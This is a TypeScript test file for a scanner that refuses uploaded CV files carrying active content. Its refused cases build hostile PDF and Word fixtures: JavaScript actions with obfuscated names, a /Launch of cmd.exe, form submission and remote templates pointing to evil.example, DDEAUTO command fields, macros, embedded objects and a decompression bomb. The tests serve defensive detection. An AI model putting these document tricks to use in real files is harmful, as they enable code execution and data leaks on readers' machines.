import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { deflateSync } from 'node:zlib'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { CvFormat } from '../../model.ts'
import { contentTypesPart, docFile, documentPart, docxFile, pdfFile, zipFile } from '../cv-files.fixture.ts'
import { hasActiveContent } from './active-content.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'whitecoat-active-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function isActive(content: Buffer, format: CvFormat): Promise<boolean> {
  const path = join(folder, 'file')
  await writeFile(path, content)
  return hasActiveContent(path, format)
}

/** A PDF with one more object before its end. */
const pdfWith = (object: string | Buffer): Buffer => {
  const [head = '', tail = ''] = pdfFile().toString('latin1').split('xref\n', 2)
  return Buffer.concat([
    Buffer.from(`${head}9 0 obj\n`, 'latin1'),
    Buffer.from(object),
    Buffer.from(`\nendobj\nxref\n${tail}startxref\n9\n%%EOF`, 'latin1'),
  ])
}

const objectStream = (objects: string, { dictionary = '/Type /ObjStm /N 1 /First 4', filter = '/FlateDecode' } = {}): Buffer => {
  const packed = deflateSync(`8 0 ${objects}`)
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Filter ${filter} /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])
}

test.each([
  ['a page', pdfFile()],
  ['a link', pdfWith('<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>')],
  ['a place to begin', pdfWith('<< /OpenAction [3 0 R /Fit] >>')],
  ['objects in a stream', pdfWith(objectStream('<< /Type /Font /Subtype /Type1 >>'))],
  ['a compressed page that speaks of scripts', pdfWith(objectStream('(HTML/JavaScript /JS )', { dictionary: '/Kind /Page' }))],
])('a PDF with %s is accepted', async (_, content) => {
  expect(await isActive(content, 'pdf')).toBe(false)
})

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
test.each([
  ['a script', pdfWith(script)],
  ['a script with a name in other letters', pdfWith('<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>')],
  ['a program to launch', pdfWith('<< /S /Launch /F (cmd.exe) >>')],
  ['a form that is sent', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['an attached file', pdfWith('<< /Names << /EmbeddedFiles << /Names [] >> >> >>')],
  ['an XFA form', pdfWith('<< /AcroForm << /XFA 8 0 R >> >>')],
  ['a password', pdfWith('<< /Encrypt 8 0 R >>')],
  ['a script in a stream of objects', pdfWith(objectStream(script))],
  ['a script in a stream of objects that is not named so', pdfWith(objectStream(script, { dictionary: '/N 1 /F#69rst 4' }))],
  ['a rendition’s script in a stream', pdfWith(objectStream('<< /JS (app.alert(1)) >>'))],
  ['a stream of objects in an unusual filter', pdfWith(objectStream(script, { filter: '[/ASCIIHexDecode /FlateDecode]' }))],
  ['a stream of objects with a predictor', pdfWith(objectStream('', { dictionary: '/Type /ObjStm /First 4 /Predictor 12' }))],
  ['a damaged stream of objects', pdfWith('<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\nxxxx\nendstream')],
  ['a script in what looks like the content of a page', pdfWith(`<< /Length 9 >>\nstream\n9 0 obj ${script} endobj\nendstream`)],
  ['a stream of objects that unpacks to gigabytes', pdfWith(objectStream(' '.repeat(30_000_000)))],
])('a PDF with %s is refused', async (_, content) => {
  expect(await isActive(content, 'pdf')).toBe(true)
})

const relationships = (type: string, target: string, mode = ' TargetMode="External"') => ({
  name: 'word/_rels/document.xml.rels',
  content:
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" ' +
    `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
})
const documentWith = (inner: string) => ({
  name: 'word/document.xml',
  content: `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${inner}</w:document>`,
})
const docxWith = (...parts: { name: string; content: string | Buffer }[]) =>
  zipFile([contentTypesPart(), ...(parts.some(({ name }) => name === documentPart.name) ? [] : [documentPart]), ...parts])

test.each([
  ['a page', docxFile()],
  ['a link', docxWith(relationships('hyperlink', 'https://example.org'))],
  ['a picture', docxWith(relationships('image', 'media/image1.png', ''), { name: 'word/media/image1.png', content: 'x' })],
  [
    'the name of a template on the author’s disk',
    docxWith(relationships('attachedTemplate', 'file:///C:\\Users\\Jane\\Resume.dotx')),
  ],
  ['a page number', docxWith(documentWith('<w:instrText> PAGE </w:instrText>'))],
])('a DOCX with %s is accepted', async (_, content) => {
  expect(await isActive(content, 'docx')).toBe(false)
})

test.each([
  ['macros', docxWith({ name: 'word/vbaProject.bin', content: 'x' })],
  ['an embedded object', docxWith({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
  ['an ActiveX control', docxWith({ name: 'word/activeX/activeX1.xml', content: '<a/>' })],
  ['a template from the web', docxWith(relationships('attachedTemplate', 'https://evil.example/t.dotm'))],
  ['a template from the web, spelled otherwise', docxWith(relationships('attachedTemplate', '&#104;ttps://evil.example/t.dotm'))],
  ['a template from a network share', docxWith(relationships('attachedTemplate', 'file://evil.example/t.dotm'))],
  ['a picture from the web', docxWith(relationships('image', 'https://evil.example/p.png'))],
  ['an external object', docxWith(relationships('oleObject', 'mhtml:https://evil.example/x!x-usc:y'))],
  ['a field that starts a program', docxWith(documentWith('<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>'))],
  ['the same in a simple field', docxWith(documentWith('<w:fldSimple w:instr="DDEAUTO cmd"/>'))],
  ['a declared document type', docxWith({ name: 'word/x.xml', content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' })],
  ['damaged XML', docxWith({ name: 'word/x.xml', content: '<a><b></a>' })],
  ['XML in UTF-16', docxWith({ name: 'word/x.xml', content: Buffer.from('\uFEFF<a/>', 'utf16le') })],
])('a DOCX with %s is refused', async (_, content) => {
  expect(await isActive(content, 'docx')).toBe(true)
})

test('a DOC is accepted, and refused with macros, embedded objects, fields that start programs, or a template from the web', async () => {
  expect(await isActive(docFile(), 'doc')).toBe(false)
  const more = (text: string, encoding: BufferEncoding = 'latin1') => Buffer.concat([docFile(), Buffer.from(text, encoding)])
  for (const content of [
    more('_VBA_PROJECT', 'utf16le'),
    more('Macros', 'utf16le'),
    more('ObjectPool', 'utf16le'),
    more(' DDEAUTO cmd'),
    more('https://evil.example/t.dotm', 'utf16le'),
    more('\\\\evil.example\\share\\t.dotm', 'utf16le'),
  ])
    expect(await isActive(content, 'doc')).toBe(true)
})
